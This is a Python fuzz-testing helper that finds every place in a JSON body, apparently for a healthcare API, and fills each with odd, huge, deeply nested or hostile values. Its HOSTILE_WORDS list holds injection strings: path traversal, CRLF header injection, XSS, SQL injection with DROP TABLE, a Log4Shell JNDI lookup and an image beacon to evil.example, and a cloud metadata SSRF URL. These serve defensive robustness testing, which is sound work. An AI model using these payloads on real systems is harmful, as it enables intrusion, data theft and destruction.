"""What can be done to a JSON value: each of its places, found and filled with what nobody expects there.

What may live here: pure functions over JSON and the values put in. Nothing is sent.
"""

from __future__ import annotations

import copy
from collections.abc import Iterator
from typing import Any

Path = tuple[str | int, ...]
REMOVED = object()
"""In place of a value: the member or element is taken out."""


def nested(depth: int, inner: Any = None) -> Any:
    """A list in a list in a list."""
    for _ in range(depth):
        inner = [inner]
    return inner


def deep_object(depth: int) -> Any:
    inner: Any = "x"
    for _ in range(depth):
        inner = {"extension": inner}
    return inner


ODD_VALUES: tuple[Any, ...] = (True, False, -1, 1.5, 1e308, -1e-320, 2**63, 10**30, " ")
ODD_SHAPES: tuple[Any, ...] = ([None], [[]], [{}], {"": None}, ["x", 1, None, {}], {"value": {}}, {"coding": [None]})
HOSTILE_WORDS = (
    "../../etc/passwd",
    "..%2f..%2fPractitioner/1",
    "a\r\nX-Injected: yes",
    "%0d%0aX-Injected:%20yes",
    "kidney-7\n",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "[click](javascript:alert(1)) ![x](https://evil.example/x)",
    "' OR 1=1; DROP TABLE card; --",
    "{{context.patientId}} {0} %s ${jndi:ldap://evil.example/x}",
    "nul \x00 inside",
    "half \ud800 a pair",
    "\u202egnirts ekat \u200b \ufeff",
    "Ω≈ç√ 腎臓 🩸",
    "NaN",
    "1e999",
    "9999-99-99",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "http://169.254.169.254/latest/meta-data",
    "file:///etc/passwd",
)
HUGE: tuple[Any, ...] = ("x" * 100_000, "1" * 5_000, [0] * 20_000, {f"k{n}": n for n in range(5_000)})
DEEP: tuple[Any, ...] = (nested(150), deep_object(150))
EVERYWHERE: tuple[Any, ...] = (REMOVED, None, 0, "", [], {})
"""What is put in every place of all."""
VALUES: tuple[Any, ...] = (*EVERYWHERE, *ODD_VALUES, *ODD_SHAPES, *HOSTILE_WORDS, *HUGE, *DEEP)


def places(value: Any, at: Path = ()) -> Iterator[Path]:
    """Every place in this value, the whole of it first."""
    yield at
    if isinstance(value, dict):
        for name, inner in value.items():
            yield from places(inner, (*at, name))
    elif isinstance(value, list):
        for index, inner in enumerate(value):
            yield from places(inner, (*at, index))


def places_for(number: int, body: Any) -> Iterator[Path]:
    """Where to put the value of this number: outside the prefetch everywhere; inside it, where the readers are
    tolerant and the places many, each place gets all of EVERYWHERE and every third of the other values.
    """
    for turn, place in enumerate(places(body)):
        if place[:1] != ("prefetch",) or number < len(EVERYWHERE) or turn % 3 == number % 3:
            yield place


def value_at(body: Any, place: Path) -> Any:
    for step in place:
        body = body[step]
    return body


def changed(body: Any, place: Path, value: Any) -> Any:
    """A copy of the body with this value there. What is not on the way is shared, not copied."""
    if not place:
        return value
    step, *rest = place
    shallow = copy.copy(body)
    if not rest and value is REMOVED:
        del shallow[step]
    else:
        shallow[step] = changed(body[step], tuple(rest), value)
    return shallow


def named(place: Path) -> str:
    """The place in words, for the message of a failed test."""
    return ".".join(map(str, place)) or "the whole body"


def shown(value: Any) -> str:
    """The value put in, short enough for a message."""
    return (
        "removed"
        if value is REMOVED
        else ascii(value)[:80]
        if not isinstance(value, list | dict)
        else f"{type(value).__name__} of {len(value)}"
    )
